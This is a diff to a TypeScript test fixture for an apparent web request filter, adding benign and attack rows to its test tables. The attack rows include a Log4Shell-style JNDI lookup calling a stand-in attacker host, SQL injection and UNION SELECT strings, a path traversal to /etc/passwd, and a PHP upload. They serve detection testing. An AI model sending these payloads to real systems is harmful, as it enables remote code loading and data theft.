@@ -11,9 +11,14 @@ interface AttackRow extends Row {
 }
 
 const sqli = "' OR 1=1 --";
+const jndi = '${jndi:ldap://attacker.example/a}';
 const enc = encodeURIComponent;
 const form = { 'content-type': 'application/x-www-form-urlencoded' };
 const json = { 'content-type': 'application/json' };
+
+function basic(user: string, password: string): string {
+  return `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`;
+}
 
 function part(disposition: string, text: string): Pick<AppRequest, 'method' | 'headers' | 'body'> {
   return {
@@ -34,6 +39,24 @@ export const honest: readonly Row[] = [
   { name: 'a query', request: { target: `/search?q=${enc("Conan O'Brien")}&page=2&page=3` } },
   { name: 'a path', request: { target: '/caf%C3%A9/10%25%20off' } },
   { name: 'a cookie', request: { headers: { cookie: 'theme=dark; seen=3; theme=light' } } },
+  {
+    name: 'headers of a browser, and a token',
+    request: {
+      headers: {
+        accept: 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8',
+        'if-none-match': 'W/"5e-19a2b3c4d5", "x"',
+        authorization: 'Bearer abc.def',
+      },
+    },
+  },
+  {
+    name: 'a secret that would be refused if it were sent',
+    request: { headers: { authorization: 'Bearer ../../../etc/passwd' } },
+  },
+  {
+    name: 'a password that would be refused if it were sent',
+    request: { headers: { authorization: basic('alice', sqli) } },
+  },
   { name: 'a form', request: post(form, `text=${enc('select the best; drop by!')}&text=&a=1`) },
   {
     name: 'JSON',
@@ -85,6 +108,31 @@ export const attacks: readonly AttackRow[] = [
     request: { headers: { 'user-agent': '${jndi:ldap://203.0.113.9/a}' } },
     place: '/header.user-agent',
   },
+  {
+    name: 'in a header that few know',
+    request: { headers: { 'x-api-version': jndi } },
+    place: '/header.x-api-version',
+  },
+  {
+    name: 'in the second line of a header',
+    request: { headers: { 'x-tag': ['a', jndi] } },
+    place: '/header.x-tag',
+  },
+  {
+    name: 'across two lines of a header',
+    request: { headers: { 'x-tag': ['1 UNION SELECT name', 'password FROM users'] } },
+    place: '/header.x-tag',
+  },
+  {
+    name: 'in the place of a secret',
+    request: { headers: { authorization: jndi } },
+    place: '/header.authorization',
+  },
+  {
+    name: 'in the name of a user',
+    request: { headers: { authorization: basic(sqli, 'secret') } },
+    place: '/header.authorization.user',
+  },
   { name: 'in a form', request: post(form, `a=1&b=${enc(sqli)}`), place: '/body.b' },
   { name: 'in JSON', request: post(json, JSON.stringify({ a: [{ b: sqli }] })), place: '/body' },
   { name: 'in a name of JSON', request: post(json, '{"a":{"$where":"1"}}'), place: '' },
@@ -110,6 +158,24 @@ export const attacks: readonly AttackRow[] = [
   },
   { name: 'in a body of no type', request: post({}, sqli), place: '/body' },
   { name: 'in a field of a multipart form', request: part('name="a"', sqli), place: '/body' },
+  {
+    name: 'in a field of a multipart form that is put',
+    request: { ...part('name="a"', sqli), method: 'PUT' },
+    place: '/body',
+  },
+  {
+    name: 'in a field that has a type with a name',
+    request: part('name="a"\r\ncontent-type: text/plain; name=b', sqli),
+    place: '/body',
+  },
+  {
+    name: 'in a multipart body that is no form',
+    request: {
+      ...part('name="a"', sqli),
+      headers: { 'content-type': 'multipart/other; boundary=frontier' },
+    },
+    place: '/body',
+  },
   {
     name: 'in the name of a file',
     request: part('name="f"; filename="me.php"', '<?php'),
